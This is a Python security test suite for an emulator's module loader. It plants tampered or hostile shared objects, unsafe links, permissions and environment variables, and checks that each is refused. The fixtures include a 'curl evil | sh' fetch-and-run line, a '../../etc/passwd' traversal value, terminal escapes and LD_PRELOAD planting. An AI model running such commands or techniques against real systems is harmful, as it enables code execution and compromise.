#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Attacks on the loader: files, places, environment and policy that would make it run somebody
else's code. Each must be refused in words, none of its code may run (a constructor in each would
leave a marker), and the emulator must go on with its other modules.

usage: test-attacks.py BUILD-ROOT SOURCE-ROOT
"""
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading

BUILD, SOURCE = sys.argv[1:3]
sys.path.insert(0, os.path.join(SOURCE, "tests/house"))
from qmp import Emulator, fails, QUIET  # noqa: E402
from tap import Skip, run, work_folder  # noqa: E402

PROGRAM = os.path.join(BUILD, "backplane-system-x86_64")
WORK = work_folder("bp-attack-")
os.chmod(WORK, 0o755)
MARKER = os.path.join(WORK, "marker")
NOBODY = 65534
HERE = os.path.dirname(os.path.abspath(__file__))
COMPILED = {}


def compile_module(name, *options, output=None):
    """An attacking module; compiled once for each set of options."""
    key = (name, options)
    if key not in COMPILED:
        path = os.path.join(WORK, "compiled-%d.so" % len(COMPILED))
        command = ["cc", "-shared", "-fPIC", "-fvisibility=hidden", "-g0", "-O1",
                   '-DMARKER="%s"' % MARKER, '-DNAME="%s"' % name,
                   "-I", os.path.join(SOURCE, "module-api"),
                   os.path.join(HERE, "attack-module.c"), "-o", path,
                   "-L", os.path.join(BUILD, "core"), "-lbackplane", *options]
        done = subprocess.run(command, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        COMPILED[key] = path
    if output:
        shutil.copyfile(COMPILED[key], output)
        os.chmod(output, 0o755)
        return output
    return COMPILED[key]


class Place:
    """A fresh directory for one attack."""
    count = 0

    def __init__(self, parent=WORK):
        Place.count += 1
        self.path = os.path.join(parent, "place-%d" % Place.count)
        os.mkdir(self.path, 0o755)
        os.chmod(self.path, 0o755)
        if os.path.exists(MARKER):
            os.unlink(MARKER)

    def file(self, name="attack.so"):
        return os.path.join(self.path, name)

    def module(self, *options, name="attack", file="attack.so"):
        return compile_module(name, *options, output=self.file(file))


def clean(what=""):
    assert not os.path.exists(MARKER), "code of a refused file ran " + what


def refused(place, *words, trigger=None, env=None, args=(), strict=True):
    """Asks for the attack's object (or does what `trigger` says) in a running emulator; then a
    module of the emulator's own must still load."""
    directory = place if isinstance(place, str) else place.path
    environment = {"BACKPLANE_MODULE_PATH": directory, **(env or {})}
    with Emulator(PROGRAM, "-machine", "none", *args, env=environment) as e:
        request = trigger or (("object-add", {"qom_type": "attack", "id": "a"}),)
        for command, arguments in request:
            reply = e.command(command, **arguments)
            assert "error" in reply, "accepted: %s" % reply
        said = reply["error"]["desc"]
        modules = e.command("query-modules")["return"]["modules"]
        reasons = " | ".join(m.get("reason", "") for m in modules)
        assert "return" in e.command("object-add", qom_type="secret", id="s", data="x")
        assert "return" in e.command("query-status")
        e.process.stdin.write('{"execute": "quit"}\n')
        e.process.stdin.flush()
        e.process.wait(60)
        told = said + " | " + reasons + " | " + e.process.stderr.read()
    for word in words:
        assert word in told, "%r is not in: %s" % (word, told)
    clean()
    return told


def patch(path, change):
    with open(path, "rb") as f:
        data = bytearray(f.read())
    change(data)
    with open(path, "wb") as f:
        f.write(data)


def headers(data):
    """(offset of the header, type) of each program header."""
    phoff, = struct.unpack_from("<Q", data, 32)
    count, = struct.unpack_from("<H", data, 56)
    return [(phoff + i * 56, struct.unpack_from("<I", data, phoff + i * 56)[0])
            for i in range(count)]


def notes_range(data):
    for at, kind in headers(data):
        if kind == 4:
            offset, = struct.unpack_from("<Q", data, at + 8)
            size, = struct.unpack_from("<Q", data, at + 32)
            if b"Backplane\0" in data[offset:offset + size]:
                return offset, offset + size
    raise AssertionError("no notes")


def in_notes(old, new):
    """Replaces text in the notes alone; the table behind bp_module keeps the old one."""
    assert len(old) == len(new)

    def change(data):
        start, end = notes_range(data)
        at = data.find(old, start, end)
        assert at >= 0, old
        data[at:at + len(old)] = new
    return change


def dynamic_entries(data):
    for at, kind in headers(data):
        if kind == 2:
            offset, = struct.unpack_from("<Q", data, at + 8)
            size, = struct.unpack_from("<Q", data, at + 32)
            return [(i, *struct.unpack_from("<qQ", data, i))
                    for i in range(offset, offset + size, 16)]
    raise AssertionError("no dynamic section")


def retag(old, new):
    """Changes the type of the first dynamic entry of type `old`."""
    def change(data):
        for at, tag, _ in dynamic_entries(data):
            if tag == old:
                struct.pack_into("<q", data, at, new)
                return
        raise AssertionError("no entry %d" % old)
    return change


def need_root():
    if os.geteuid() != 0:
        raise Skip("another user's files need root")


CASES = []


def attack(function):
    CASES.append(function)
    return function


# ---- the harness itself ----

@attack
def a_good_module_s_constructor_leaves_the_marker():
    p = Place()
    p.module()
    with Emulator(PROGRAM, "-machine", "none", env={"BACKPLANE_MODULE_PATH": p.path}) as e:
        assert "return" in e.command("object-add", qom_type="attack", id="a")
    assert os.path.exists(MARKER)


# ---- environment and working directory ----

SUID = {}


def privileged_program():
    """A set-user-id copy of the program that finds its library by an absolute path."""
    need_root()
    if "path" not in SUID:
        base = work_folder("bp", "/tmp")
        SUID["base"] = base
        os.chmod(base, 0o755)
        os.mkdir(base + "/c", 0o755)
        os.mkdir(base + "/modules", 0o755)
        for name in os.listdir(os.path.join(BUILD, "core")):
            if name.startswith("libbackplane.so") and not name.endswith(".p"):
                shutil.copy(os.path.join(BUILD, "core", name), base + "/c", follow_symlinks=True)
        for name in os.listdir(os.path.join(BUILD, "modules")):
            if name.endswith(".so"):
                shutil.copy(os.path.join(BUILD, "modules", name), base + "/modules")
        program = base + "/backplane-system-x86_64"
        shutil.copy(PROGRAM, program)

        def absolute(data):
            at = data.find(b"$ORIGIN/core:")
            assert at >= 0
            end = data.index(b"\0", at)
            text = (base + "/c").encode()
            assert len(text) <= end - at
            data[at:end] = text + b"\0" * (end - at - len(text))
        patch(program, absolute)
        os.chown(program, 0, 0)
        os.chmod(program, 0o4755)
        SUID["path"] = program
    return SUID["path"]


def as_nobody(*command):
    return subprocess.run(["setpriv", "--reuid=%d" % NOBODY, "--regid=%d" % NOBODY,
                           "--clear-groups", *command], stdin=subprocess.DEVNULL,
                          capture_output=True, text=True, timeout=30, cwd="/")


def privileged(p, *args, env=None):
    program = privileged_program()
    # Not for setpriv itself: the planted library would be its.
    given = ["%s=%s" % item for item in (env or {}).items()]
    done = as_nobody("env", *given, program, *QUIET, "-machine", "none", *args)
    clean("with raised privileges")
    return done.stdout + done.stderr


@attack
def module_path_is_ignored_when_privileges_were_raised():
    p = Place()
    p.module()
    said = privileged(p, "-object", "attack,id=a", env={"BACKPLANE_MODULE_PATH": p.path})
    assert "attack" in said and p.path not in said, said


@attack
def module_dir_is_ignored_when_privileges_were_raised():
    p = Place()
    p.module()
    said = privileged(p, "-module-dir", p.path, "-object", "attack,id=a")
    assert "attack" in said, said


@attack
def a_file_by_its_path_is_refused_when_privileges_were_raised():
    p = Place()
    p.module()
    said = privileged(p, "-device", p.file())
    assert "privileges were raised" in said, said


@attack
def preloading_a_path_is_refused_when_privileges_were_raised():
    p = Place()
    p.module()
    said = privileged(p, "-modules", "preload=" + p.file())
    assert "privileges were raised" in said, said


@attack
def policy_of_the_environment_is_ignored_when_privileges_were_raised():
    p = Place()
    with open(p.file("10.conf"), "w") as f:
        f.write("deny object:secret\n")
    said = privileged(p, "-object", "secret,id=s,data=x", "-device", "nothing-like-it",
                      env={"BACKPLANE_MODULE_CONF": p.path})
    assert "denied" not in said and "nothing-like-it" in said, said


@attack
def planted_library_path_is_ignored_when_privileges_were_raised():
    p = Place()
    p.module(file="libbackplane.so.1")
    said = privileged(p, "-device", "nothing-like-it", env={"LD_LIBRARY_PATH": p.path,
                                                            "LD_PRELOAD": p.file("libbackplane.so.1")})
    assert "nothing-like-it" in said, said


@attack
def file_capabilities_count_as_raised_privileges():
    p = Place()
    p.module()
    program = privileged_program() + "-capable"
    shutil.copy(privileged_program(), program)
    os.chmod(program, 0o755)
    # linux/capability.h: revision 2 with the effective bit; CAP_NET_ADMIN (12) permitted.
    try:
        os.setxattr(program, "security.capability",
                    struct.pack("<IIIII", 0x02000001, 1 << 12, 0, 0, 0))
    except OSError as reason:
        raise Skip("no file capabilities here: %s" % reason)
    for args, word in ((("-object", "attack,id=a"), "attack"),
                       (("-device", p.file()), "privileges were raised")):
        said = as_nobody("env", "BACKPLANE_MODULE_PATH=" + p.path, program, *QUIET, "-machine",
                         "none", *args)
        clean("with file capabilities")
        assert said.returncode == 1 and word in said.stderr and p.path + ")" not in said.stderr, said


def from_directory(p, *args, env=None):
    done = subprocess.run([PROGRAM, *QUIET, *args], cwd=p.path, capture_output=True, text=True,
                          timeout=30, stdin=subprocess.DEVNULL, env={**os.environ, **(env or {})})
    clean("from the working directory")
    return done.stdout + done.stderr


@attack
def working_directory_is_not_looked_in():
    p = Place()
    p.module(name="secret", file="secret.so")
    p.module(file="object-attack.so")
    said = from_directory(p, "-machine", "none", "-object", "attack,id=a")
    assert "attack" in said, said


@attack
def empty_element_of_the_path_is_not_the_working_directory():
    p = Place()
    p.module()
    said = from_directory(p, "-machine", "none", "-object", "attack,id=a",
                          env={"BACKPLANE_MODULE_PATH": "::/nonexistent:"})
    assert "attack" in said, said


@attack
def module_name_without_a_slash_is_no_file_of_the_working_directory():
    p = Place()
    p.module()
    said = from_directory(p, "-machine", "none", "-modules", "preload=attack")
    assert "there is no module attack" in said, said


# ---- owners and places ----

@attack
def file_that_others_may_write_is_refused():
    p = Place()
    os.chmod(p.module(), 0o777)
    refused(p, "may be written by others")


@attack
def file_that_a_foreign_group_may_write_is_refused():
    need_root()
    p = Place()
    os.chown(p.module(), 0, 1234)
    os.chmod(p.file(), 0o775)
    refused(p, "may be written by group 1234")


@attack
def file_of_another_user_is_refused():
    need_root()
    p = Place()
    os.chown(p.module(), NOBODY, NOBODY)
    refused(p, "belongs to user %d" % NOBODY)


@attack
def directory_that_others_may_write_is_refused():
    p = Place()
    p.module()
    os.chmod(p.path, 0o777)
    refused(p, "may be written by others")


@attack
def grandparent_that_others_may_write_is_refused():
    outer = Place()
    p = Place(outer.path)
    p.module()
    os.chmod(outer.path, 0o777)
    refused(p, "may be written by others")


@attack
def directory_of_another_user_is_refused():
    need_root()
    p = Place()
    p.module()
    os.chown(p.path, NOBODY, NOBODY)
    refused(p, "belongs to user %d" % NOBODY)


@attack
def another_user_s_directory_in_a_sticky_one_is_refused():
    need_root()
    outer = Place()
    os.chmod(outer.path, 0o1777)
    p = Place(outer.path)
    p.module()
    os.chown(p.path, NOBODY, NOBODY)
    refused(p, "belongs to user %d" % NOBODY)


@attack
def link_into_a_place_that_others_may_write_is_refused():
    p, bad = Place(), Place()
    bad.module()
    os.chmod(bad.path, 0o777)
    os.symlink(bad.file(), p.file())
    refused(p, "may be written by others")


@attack
def link_of_another_user_is_refused():
    need_root()
    p, elsewhere = Place(), Place()
    elsewhere.module()
    os.symlink(elsewhere.file(), p.file())
    os.lchown(p.file(), NOBODY, NOBODY)
    refused(p, "belongs to user %d" % NOBODY)


@attack
def directory_behind_an_unsafe_link_is_refused():
    good, bad = Place(), Place()
    good.module()
    os.symlink(good.path, os.path.join(bad.path, "way"))
    os.chmod(bad.path, 0o777)
    refused(os.path.join(bad.path, "way"), "may be written by others")


@attack
def policy_directory_that_others_may_write_replaces_nothing():
    for mask in ("link", "empty"):
        p, safe, bad = Place(), Place(), Place()
        p.module()
        with open(safe.file("50-site.conf"), "w") as f:
            f.write("deny attack\n")
        if mask == "link":
            os.symlink("/dev/null", bad.file("50-site.conf"))
        else:
            open(bad.file("50-site.conf"), "w").close()
        os.chmod(bad.path, 0o777)
        refused(p, "50-site.conf:1", "may be written by others",
                env={"BACKPLANE_MODULE_CONF": safe.path + ":" + bad.path})


@attack
def dangling_link_and_loop_are_told():
    p = Place()
    os.symlink("nowhere.so", p.file("dangling.so"))
    os.symlink("loop.so", p.file("loop.so"))
    refused(p, "No such file", "symbolic links")


@attack
def hard_link_to_another_user_s_file_is_refused():
    need_root()
    p, theirs = Place(), Place()
    theirs.module()
    os.chown(theirs.file(), NOBODY, NOBODY)
    os.link(theirs.file(), p.file())
    refused(p, "belongs to user %d" % NOBODY)


@attack
def special_files_do_not_hang_or_crash():
    p = Place()
    os.mkfifo(p.file("fifo.so"))
    os.mkdir(p.file("directory.so"))
    s = socket.socket(socket.AF_UNIX)
    s.bind(p.file("socket.so"))
    if os.geteuid() == 0:
        os.symlink("/dev/zero", p.file("zero.so"))
    refused(p, "not a regular file")
    s.close()


@attack
def swapping_files_by_name_never_runs_the_other_one():
    """A good file and one that does not fit are exchanged by name while starts load them."""
    p = Place()
    files = [compile_module("attack", "-DHARMLESS"), compile_module("attack", "-DABI_MAJOR")]
    stop = threading.Event()

    def swap():
        turn = 0
        while not stop.is_set():
            turn += 1
            shutil.copyfile(files[turn % 2], p.file("next"))
            os.chmod(p.file("next"), 0o755)
            os.rename(p.file("next"), p.file())

    shutil.copyfile(files[0], p.file())
    thread = threading.Thread(target=swap)
    thread.start()
    loaded = 0
    try:
        for _ in range(60):
            done = subprocess.run([PROGRAM, *QUIET, "-machine", "none", "-object", "attack,id=a",
                                   "-qmp", "stdio"],
                                  env={**os.environ, "BACKPLANE_MODULE_PATH": p.path},
                                  input='{"execute":"qmp_capabilities"}{"execute":"quit"}',
                                  capture_output=True, text=True, timeout=30)
            assert done.returncode in (0, 1), done
            assert done.returncode == 0 or "attack" in done.stderr, done
            loaded += done.returncode == 0
            clean("during an exchange")
    finally:
        stop.set()
        thread.join()
    print("# the good one was loaded in %d of 60 starts" % loaded)


# ---- wrong files ----

@attack
def other_abi_major_is_refused():
    p = Place()
    p.module("-DABI_MAJOR")
    refused(p, "abi major 9 (here 1)")


@attack
def newer_abi_minor_is_refused():
    p = Place()
    p.module("-DABI_MINOR")
    refused(p, "abi minor 99")


@attack
def other_exact_stamp_is_refused():
    p = Place()
    p.module("-DOTHER_STAMP")
    refused(p, "exact stamp another-build")


@attack
def unknown_tier_is_refused():
    p = Place()
    p.module("-DNO_TIER")
    refused(p, 'tier "friendly"')


@attack
def code_at_init_of_a_refused_file_does_not_run():
    p = Place()
    p.module("-DABI_MAJOR", "-DUSE_INIT", "-Wl,-init,betray_at_init")
    refused(p, "abi major 9")


@attack
def resolver_of_a_refused_file_does_not_run():
    p = Place()
    p.module("-DABI_MAJOR", "-DUSE_IFUNC")
    refused(p, "abi major 9")


@attack
def notes_that_lie_about_the_abi_are_refused():
    p = Place()
    patch(p.module("-DABI_MINOR"), in_notes(b"abi=1.99", b"abi=1.0\0"))
    refused(p, "bp_module has abi 1.99")


@attack
def notes_that_lie_about_the_name_are_refused():
    p = Place()
    patch(p.module(), in_notes(b"name=attack", b"name=attacc"))
    refused(p, "name attack (notes: attacc)")


@attack
def notes_that_lie_about_the_tier_are_refused():
    p = Place()
    patch(p.module("-DOTHER_STAMP"), in_notes(b"tier=exact:another-build",
                                              b"tier=public" + b"\0" * 13))
    refused(p, "tier exact:another-build (notes: public)")


@attack
def notes_that_promise_another_thing_are_refused():
    p = Place()
    patch(p.module(), in_notes(b"provides=object:attack", b"provides=object:attacc"))
    refused(p, "provides object attack, which its notes do not list",
            trigger=(("object-add", {"qom_type": "attacc", "id": "a"}),))


@attack
def thing_that_is_listed_twice_is_refused():
    p = Place()
    p.module('-DEXTRA_NOTE="provides=object:attack;summary=Twice"')
    refused(p, "twice")


@attack
def thing_that_another_module_has_is_refused():
    p = Place()
    p.module(file="a.so")
    compile_module("attack", '-DEXTRA_NOTE="license=other"', output=p.file("b.so"))
    with Emulator(PROGRAM, "-machine", "none", env={"BACKPLANE_MODULE_PATH": p.path}) as e:
        modules = {os.path.basename(m["file"]): m
                   for m in e.command("query-modules")["return"]["modules"]}
        assert modules["b.so"]["state"] == "failed" and "a.so" in modules["b.so"]["reason"], modules
    clean()


@attack
def shadowing_the_core_s_own_names_is_refused():
    p = Place()
    p.module('-DEXTRA_NOTE="provides=command:quit;summary=Mine"')
    refused(p, "does not provide command quit")


@attack
def requiring_itself_is_refused():
    p = Place()
    p.module('-DREQUIRES="attack-face"', '-DPROVIDES_INTERFACE="attack-face"')
    refused(p, "requires itself")


@attack
def missing_requirement_is_refused():
    p = Place()
    p.module('-DREQUIRES="nobody-has-this"')
    refused(p, "requires interface nobody-has-this/1")


@attack
def interface_with_a_path_for_a_name_is_refused():
    p = Place()
    p.module('-DREQUIRES="../../etc/passwd"')
    refused(p, "requires interface ../../etc/passwd/1")


@attack
def text_relocations_are_refused():
    p = Place()
    patch(p.module("-Wl,-z,now"), retag(0x6ffffffb, 22))  # DT_FLAGS_1 becomes DT_TEXTREL
    refused(p, "text relocations")


@attack
def executable_stack_is_refused():
    p = Place()
    p.module("-Wl,-z,execstack")
    refused(p, "executable stack")


@attack
def writable_code_is_refused():
    p = Place()

    def change(data):
        for at, kind in headers(data):
            if kind == 1:
                flags, = struct.unpack_from("<I", data, at + 4)
                if flags & 1:
                    struct.pack_into("<I", data, at + 4, 7)
    patch(p.module(), change)
    refused(p, "writable and executable")


@attack
def library_by_its_path_is_refused():
    p = Place()
    planted = p.file("libplanted.so")
    subprocess.run(["cc", "-shared", "-fPIC", "-x", "c", "/dev/null", "-o", planted], check=True)
    compile_module("attack", "-Wl,--no-as-needed", planted, output=p.file())
    refused(p, "needs library", "by its path")


@attack
def relative_run_path_is_refused():
    p = Place()
    p.module("-Wl,-rpath,lib")
    refused(p, "looks for libraries below the working directory")


@attack
def empty_run_path_element_is_refused():
    p = Place()
    p.module("-Wl,-rpath,/usr/lib::/lib")
    refused(p, "looks for libraries below the working directory")


@attack
def audit_library_is_refused():
    p = Place()
    p.module("-Wl,--audit=libplanted.so")
    refused(p, "audit")


@attack
def depaudit_library_is_refused():
    p = Place()
    p.module("-Wl,--depaudit=libplanted.so")
    refused(p, "audit")


@attack
def filter_library_is_refused():
    p = Place()
    p.module("-Wl,-f,libplanted.so")
    refused(p, "filter library")


@attack
def table_as_a_function_is_refused():
    p = Place()

    def change(data):  # the symbol's type becomes IFUNC: looking it up would call it
        entries = {tag: value for _, tag, value in dynamic_entries(data)}
        names, symbols = entries[5], entries[6]
        for at in range(symbols, names, 24):
            name, = struct.unpack_from("<I", data, at)
            if data[names + name:].startswith(b"bp_module\0"):
                data[at + 4] = 0x1a
                return
        raise AssertionError("no symbol")
    patch(p.module(), change)
    refused(p, "has no symbol bp_module")


@attack
def wrong_magic_is_refused():
    p = Place()

    def change(data):
        at = data.rfind(b"BKPL")
        data[at:at + 4] = b"LPKB"
    patch(p.module(), change)
    refused(p, "magic")


@attack
def terminal_escapes_in_notes_are_refused():
    p = Place()
    patch(p.module(), in_notes(b"summary=An", b"summary=\x1b["))
    refused(p, "control characters")


@attack
def thousands_of_notes_do_not_hurt():
    p = Place()

    def change(data):
        start, _ = notes_range(data)
        struct.pack_into("<I", data, start + 4 + (36 if data[start:start + 4] == b"\4\0\0\0" else 0),
                         0x7fffffff)
    patch(p.module(), change)
    refused(p, "attack")


@attack
def overlapping_segments_are_refused():
    p = Place()

    def change(data):
        loads = [at for at, kind in headers(data) if kind == 1]
        first, = struct.unpack_from("<Q", data, loads[0] + 16)
        struct.pack_into("<Q", data, loads[-1] + 16, first)
    patch(p.module(), change)
    refused(p, "malformed")


@attack
def segment_larger_in_the_file_than_in_memory_is_refused():
    p = Place()

    def change(data):
        for at, kind in headers(data):
            if kind == 1:
                struct.pack_into("<Q", data, at + 40, 16)
    patch(p.module(), change)
    refused(p, "larger in the file than in memory")


@attack
def other_computers_files_are_refused():
    p = Place()
    for name, at, value in (("elf32", 4, 1), ("big-endian", 5, 2), ("arm", 18, 40),
                            ("program", 16, 2), ("object", 16, 1)):
        path = p.module(name="attack", file=name + ".so")

        def change(data, at=at, value=value):
            data[at] = value
        patch(path, change)
    refused(p, "ELF class 1", "ELF machine 40", "not a shared object (ELF type 2)",
            "not a shared object (ELF type 1)")


@attack
def file_cut_anywhere_is_refused():
    p = Place()
    with open(compile_module("attack"), "rb") as f:
        data = f.read()
    # The bytes behind the last segment are no part of what is loaded.
    end = max(struct.unpack_from("<Q", data, at + 8)[0] + struct.unpack_from("<Q", data, at + 32)[0]
              for at, kind in headers(data) if kind == 1)
    for i in range(40):
        size = end * i // 40
        with open(p.file("cut-%d.so" % i), "wb") as f:
            f.write(data[:size])
        os.chmod(p.file("cut-%d.so" % i), 0o755)
    refused(p, "truncated", "not an ELF file")


# ---- index, policy, catalogue ----

def write_index(place):
    done = subprocess.run([os.path.join(BUILD, "tests/loader/make-index"), place.path],
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


@attack
def index_does_not_hide_what_is_wrong_with_a_file():
    p = Place()
    patch(p.module(), in_notes(b"provides=object:attack", b"provides=object:attacc"))
    write_index(p)
    refused(p, "provides object attack, which its notes do not list",
            trigger=(("object-add", {"qom_type": "attacc", "id": "a"}),))


@attack
def file_that_was_damaged_after_indexing_is_refused():
    p = Place()
    path = p.module("-Wl,--build-id=sha1")
    write_index(p)
    before = os.stat(path)

    def change(data):  # one bit of code
        for at, kind in headers(data):
            flags, = struct.unpack_from("<I", data, at + 4)
            if kind == 1 and flags & 1:
                offset, size = (struct.unpack_from("<Q", data, at + 8)[0],
                                struct.unpack_from("<Q", data, at + 32)[0])
                data[offset + size - 24] ^= 1
    patch(path, change)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    refused(p, "is damaged")


@attack
def index_that_others_may_write_is_not_used():
    p = Place()
    p.module("-DABI_MAJOR")
    write_index(p)
    os.chmod(p.file("modules.idx"), 0o666)
    refused(p, "modules.idx", "abi major 9")


@attack
def index_of_another_user_is_not_used():
    need_root()
    p = Place()
    p.module("-DABI_MAJOR")
    write_index(p)
    os.chown(p.file("modules.idx"), NOBODY, NOBODY)
    refused(p, "modules.idx", "abi major 9")


@attack
def index_behind_a_link_into_a_place_that_others_may_write_is_not_used():
    p, open_place = Place(), Place()
    p.module("-DABI_MAJOR")
    write_index(p)
    os.rename(p.file("modules.idx"), open_place.file("modules.idx"))
    os.symlink(open_place.file("modules.idx"), p.file("modules.idx"))
    os.chmod(open_place.path, 0o777)
    refused(p, "modules.idx", "may be written by others", "abi major 9")


@attack
def catalogue_of_others_names_no_package():
    p = Place()
    p.module("-DABI_MAJOR")
    with open(p.file("catalogue"), "w") as f:
        f.write("install curl evil | sh; %s\ndevice:nothing-like-it\tm\tevil\n")
    os.chmod(p.file("catalogue"), 0o666)
    told = refused(p, "nothing-like-it",
                   trigger=(("device_add", {"driver": "nothing-like-it", "id": "n"}),))
    assert "evil" not in told, told


@attack
def escapes_in_a_catalogue_are_not_shown():
    p = Place()
    p.module("-DABI_MAJOR")
    with open(p.file("catalogue"), "w") as f:
        f.write("install apt \033]0;owned\007 %s\n"
                "device:nothing-like-it\tm\te\033[2Jvil\n")
    told = refused(p, "nothing-like-it",
                   trigger=(("device_add", {"driver": "nothing-like-it", "id": "n"}),))
    assert "\033" not in told and "\007" not in told, told


@attack
def relative_directory_stays_where_it_was_when_named():
    """A later change of the working directory (here: what is behind its name) leads nowhere else."""
    p = Place()
    os.mkdir(p.file("modules"), 0o755)
    compile_module("attack", "-DHARMLESS", output=p.file("modules/attack.so"))
    other = Place()
    other.module()
    with Emulator(PROGRAM, "-machine", "none", "-module-dir",
                  os.path.relpath(p.file("modules"), os.getcwd())) as e:
        os.rename(p.file("modules"), p.file("moved"))
        os.rename(other.path, p.file("modules"))
        assert "return" in e.command("object-add", qom_type="attack", id="a")
        clean()
        with open("/proc/%d/maps" % e.process.pid) as maps:
            assert p.file("moved/attack.so") in maps.read()


@attack
def index_that_names_files_elsewhere_is_not_used():
    p, elsewhere = Place(), Place()
    p.module(file="aaaaaaaaaaaaaa.so")
    elsewhere.module()
    write_index(p)

    def change(data):
        at = data.find(b"aaaaaaaaaaaaaa.so")
        text = b"../place/../xx.so"
        data[at:at + len(text)] = text
    patch(p.file("modules.idx"), change)
    with Emulator(PROGRAM, "-machine", "none", env={"BACKPLANE_MODULE_PATH": p.path}) as e:
        files = [m["file"] for m in e.command("query-modules")["return"]["modules"]]
        assert not any(".." in f for f in files), files
        assert p.file("aaaaaaaaaaaaaa.so") in files, files
    clean()


@attack
def old_index_does_not_vouch_for_a_new_file():
    p = Place()
    p.module()
    write_index(p)
    compile_module("attack", "-DABI_MAJOR", output=p.file())
    refused(p, "abi major 9")


def denied(text, *words, trigger=None, args=()):
    p, policy = Place(), Place()
    p.module()
    with open(policy.file("50-site.conf"), "w") as f:
        f.write(text)
    request = trigger(p) if trigger else None
    return refused(p, "50-site.conf:", *words, trigger=request,
                   env={"BACKPLANE_MODULE_CONF": policy.path}, args=args)


@attack
def denied_module_is_not_loaded_by_what_it_provides():
    denied('deny attack "not on this computer"\n', "not on this computer")


@attack
def denied_module_is_not_loaded_by_its_name():
    denied("deny att*\n", trigger=lambda p: (("module-load", {"name": "attack"}),))


@attack
def denied_module_is_not_loaded_by_its_path():
    denied("deny *\nallow object-secret\nallow accel-*\nallow hw-none\nallow chardev*\nallow display\n",
           trigger=lambda p: (("module-load", {"name": p.file()}),))


@attack
def denied_device_is_not_made_by_its_path():
    denied("deny attack\n", trigger=lambda p: (("device_add", {"driver": p.file(), "id": "d"}),))


@attack
def denied_name_is_not_reached_through_an_alias():
    denied("deny object:attack\nalias object:harmless attack\n",
           trigger=lambda p: (("object-add", {"qom_type": "harmless", "id": "a"}),))


@attack
def policy_that_others_may_write_is_not_used():
    p, policy = Place(), Place()
    p.module("-DABI_MAJOR")
    with open(policy.file("50-site.conf"), "w") as f:
        f.write("deny object:secret\n")
    os.chmod(policy.file("50-site.conf"), 0o666)
    refused(p, "50-site.conf", "may be written by others",
            env={"BACKPLANE_MODULE_CONF": policy.path})


# ---- time ----

@attack
def locked_modules_are_not_loaded():
    p = Place()
    p.module()
    refused(p, "lock=on", args=("-modules", "preload=object-secret,lock=on"))


@attack
def locked_modules_are_not_loaded_by_path():
    p = Place()
    p.module()
    refused(p, "lock=on", args=("-modules", "preload=object-secret,lock=on"),
            trigger=(("module-load", {"name": p.file()}),))


@attack
def file_that_becomes_wrong_while_it_runs_is_refused():
    p = Place()
    p.module()
    with Emulator(PROGRAM, "-machine", "none", env={"BACKPLANE_MODULE_PATH": p.path}) as e:
        e.command("query-modules")
        os.unlink(p.file())
        compile_module("attack", "-DABI_MAJOR", output=p.file())
        reply = e.command("object-add", qom_type="attack", id="a")
        assert "abi major 9" in reply["error"]["desc"], reply
        clean()


@attack
def descriptor_leads_to_the_checked_file_after_it_was_replaced():
    """With pin=on the old, good file is what is loaded, though its place has another one."""
    p = Place()
    p.module()
    with Emulator(PROGRAM, "-machine", "none", "-modules", "pin=on",
                  env={"BACKPLANE_MODULE_PATH": p.path}) as e:
        os.unlink(p.file())
        compile_module("attack", "-DABI_MAJOR", output=p.file())
        assert "return" in e.command("object-add", qom_type="attack", id="a")
        with open("/proc/%d/maps" % e.process.pid) as maps:
            mapped = [line for line in maps if "attack.so" in line]
        assert mapped and all("(deleted)" in line for line in mapped), mapped


print("# %d attacks" % len(CASES), flush=True)
run(CASES)
